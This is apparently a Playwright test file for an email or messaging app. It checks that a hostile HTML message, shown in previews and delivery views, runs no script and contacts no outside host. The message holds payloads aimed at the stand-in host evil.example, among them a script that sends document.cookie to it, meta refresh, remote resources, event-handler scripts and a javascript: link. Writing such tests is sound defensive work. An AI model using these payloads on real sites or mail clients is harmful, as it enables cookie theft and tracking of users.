"""A hostile message, opened in a signed-in browser wherever the app shows it: it runs nothing and tells nobody anything.

The same text is first opened as an ordinary page, where it does all of what it tries: so the probe would notice.
"""

from playwright.async_api import BrowserContext, Page, Route, expect

from tests.api.test_manage import until
from tests.browser.conftest import Visit
from tests.browser.test_editing import SETTINGS
from tidings.project.apply import put
from tidings.project.store import InForce

EVIL = "https://evil.example"
END = "The end of it"
HOSTILE = f"""<!doctype html><html><head><title>Offer</title><base href="{EVIL}/base/">
<meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<link rel="stylesheet" href="{EVIL}/style.css"><link rel="prefetch" href="{EVIL}/prefetch"><link rel="preconnect" href="{EVIL}">
<style>@import url("{EVIL}/import.css"); @font-face {{ font-family: x; src: url("{EVIL}/font.woff2") }}
body {{ font-family: x; background: url("{EVIL}/background.png") }}</style>
<script>document.title = "ran"; fetch("{EVIL}/inline?" + document.cookie)</script><script src="{EVIL}/outer.js"></script></head>
<body onload="document.title = 'ran'"><img src="{EVIL}/pixel.png" onerror="document.title = 'ran'">
<svg onload="document.title = 'ran'"><image href="{EVIL}/svg.png"/></svg>
<video poster="{EVIL}/poster.png" src="{EVIL}/film.mp4" autoplay></video>
<iframe src="{EVIL}/frame"></iframe><iframe src="/api/people"></iframe>
<iframe srcdoc="<script>parent.document.title = 'ran'</script>"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed"><input type="image" src="{EVIL}/button.png">
<form action="{EVIL}/form"><button>Send</button></form><a id="script" href="javascript:document.title='ran'">Script</a>
<p>{END}</p></body></html>"""


async def test_a_hostile_message_neither_runs_nor_leaks(visit: Visit) -> None:
    _, server = visit
    text = f"---\nchannel: email\nsubject: Offer\n---\n{HOSTILE}"
    journey = {"journey": "hey", "trigger": {"event": "Signed Up"}, "steps": [{"id": "evil", "send": "evil"}]}
    body = {
        "settings": SETTINGS,
        "templates": {"evil": {"version": 1, "format": "html", "text": text}},
        "journeys": {"hey": {"version": 1, "status": "live", "document": journey, "history": {"1": journey}}},
    }
    await put(server.database.pool, InForce(server.workspace), body)
    await server.post("/v1/identify", {"userId": "u", "traits": {"email": "u@example.com"}})
    await server.post("/v1/track", {"userId": "u", "event": "Signed Up"})
    (planned,) = (await until(server, "/api/deliveries", lambda said: bool(said.get("deliveries"))))["deliveries"]
    browser = visit.page.context.browser
    assert browser is not None
    context = await browser.new_context(base_url=server.url, storage_state=await visit.page.context.storage_state())
    try:
        told = await watched(context)
        page = await context.new_page()
        await control(page, told)
        alone = (
            "/api/previews/evil/page",
            "/api/previews/evil/page?dark=true",
            f"/api/deliveries/{planned['id']}/message",
        )
        for path in alone:
            await page.goto(path)
            await expect(page.get_by_text(END)).to_be_visible()
            await page.locator("#script").dispatch_event("click")
            assert await page.title() == "Offer", path
        for path in ("/production/content/template/evil", f"/production/deliveries/{planned['id']}"):
            await page.goto(path)
            frame = page.frame_locator("iframe[title='The message']").last
            await expect(frame.get_by_text(END)).to_be_visible()
            await expect(page).not_to_have_title("ran")
        assert told == []
    finally:
        await context.close()


async def watched(context: BrowserContext) -> list[str]:
    """What reaches the other host from now on; the page that runs it all stands at an address of its own."""
    told: list[str] = []

    async def evil(route: Route) -> None:
        told.append(route.request.url)
        await route.fulfill(body="", content_type="text/css" if route.request.url.endswith("css") else "text/plain")

    async def ordinary(route: Route) -> None:
        await route.fulfill(body=HOSTILE.replace("0;url", "1;url"), content_type="text/html")  # the rest comes first

    await context.route(f"{EVIL}/**", evil)
    await context.route("http://ordinary.example/", ordinary)
    return told


async def control(page: Page, told: list[str]) -> None:
    """The same text as an ordinary page does what it tries."""
    async with page.expect_request(f"{EVIL}/refresh"):
        await page.goto("http://ordinary.example/")
        await expect(page).to_have_title("ran")
    for name in ("inline", "style.css", "import.css", "pixel.png", "frame", "object", "poster.png", "outer.js"):
        assert any(f"{EVIL}/{name}" in url for url in told), name
    await page.goto("about:blank")
    told.clear()
